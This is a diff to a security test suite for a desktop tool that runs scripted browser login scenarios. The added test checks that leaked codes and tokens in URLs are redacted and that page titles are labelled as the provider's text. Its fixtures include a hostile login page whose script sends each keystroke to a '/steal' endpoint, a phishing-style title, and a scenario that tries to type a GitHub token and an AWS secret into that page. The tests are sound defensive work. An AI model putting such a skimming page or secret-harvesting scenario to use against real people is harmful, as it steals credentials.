@@ -22,7 +22,8 @@ ROOT = Path(__file__).resolve().parents[2]
 GITHUB_TOKEN = "ghp_" + "Q7x" * 12
 CLIENT_ID = "attacker-client"
 
-LOGIN_PAGE = b"""<!doctype html><html><body><form method="post" action="/login">
+LOGIN_PAGE = b"""<!doctype html><html><head><title>Your account is locked. Call IT</title></head><body>
+<form method="post" action="/login">
 <input id="u" name="u"><button id="go" type="submit">Sign in</button></form>
 <script>for (const e of ["input", "change"]) document.getElementById("u").addEventListener(e, ev =>
   fetch("/steal?v=" + encodeURIComponent(ev.target.value)));</script></body></html>"""
@@ -103,7 +104,19 @@ def forms_of(secret: str) -> list[bytes]:
             base64.b64encode(f"{quote(CLIENT_ID)}:{quote(secret, safe='')}".encode())]
 
 
-def attack(tmp_path: Path, service, issuer: str, *allow: str) -> subprocess.CompletedProcess:
+ATTACK_STEPS = """client_secret = "env:AWS_SECRET_ACCESS_KEY"
+
+[[steps]]
+fill = "#u"
+value = "env:GITHUB_TOKEN"
+timeout = 5
+[[steps]]
+click = "#go"
+timeout = 5
+"""
+
+
+def attack(tmp_path: Path, service, issuer: str, *allow: str, steps: str = ATTACK_STEPS) -> subprocess.CompletedProcess:
     path = tmp_path / "merged-from-a-pull-request.cdscenario"
     path.write_text(f"""version = 1
 name = "innocent looking"
@@ -114,16 +127,7 @@ name = "corp"
 kind = "oidc"
 issuer = "{issuer}"
 client_id = "{CLIENT_ID}"
-client_secret = "env:AWS_SECRET_ACCESS_KEY"
-
-[[steps]]
-fill = "#u"
-value = "env:GITHUB_TOKEN"
-timeout = 5
-[[steps]]
-click = "#go"
-timeout = 5
-""")
+{steps}""")
     env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "QTWEBENGINE_DISABLE_SANDBOX": "1",
            "AWS_ACCESS_KEY_ID": service.access_key_id, "AWS_SECRET_ACCESS_KEY": service.secret_access_key,
            "GITHUB_TOKEN": GITHUB_TOKEN, "COGNITO_DESK_CONFIG_DIR": str(tmp_path / "config"),
@@ -177,3 +181,18 @@ def test_a_secret_is_typed_only_into_a_page_of_an_approved_origin(service, hosti
     assert f"the page is at {attacker.url}, which is not approved for this run's secrets" in done.stdout
     assert any(r.startswith(b"GET /login") for r in attacker.received)  # the page was shown, nothing typed
     assert_nothing_leaked(service, approved, attacker)
+
+
+def test_the_history_keeps_no_url_query_and_labels_the_providers_words(service, hostile, tmp_path):
+    """Issue 15 §4: a step-timeout message names the page it stayed on — without its query or fragment (codes,
+    tokens) — and the page's title as the provider's text, in the output and in the run history."""
+    provider = hostile[0]
+    provider.authorize_redirect = f"{provider.url}/login?code=LEAKED-CODE&state=s#access_token=LEAKED-TOKEN"
+    done = attack(tmp_path, service, provider.url, steps='[[steps]]\nwait_for = "#never"\ntimeout = 2\n')
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert f"the page stayed at {provider.url}/login?[redacted] (its title, the provider's " \
+           "text: 'Your account is locked. Call IT')" in done.stdout
+    history = (tmp_path / "history.sqlite3").read_bytes()
+    assert b"stayed at" in history
+    for leaked in ("LEAKED-CODE", "LEAKED-TOKEN"):
+        assert leaked not in done.stdout + done.stderr and leaked.encode() not in history
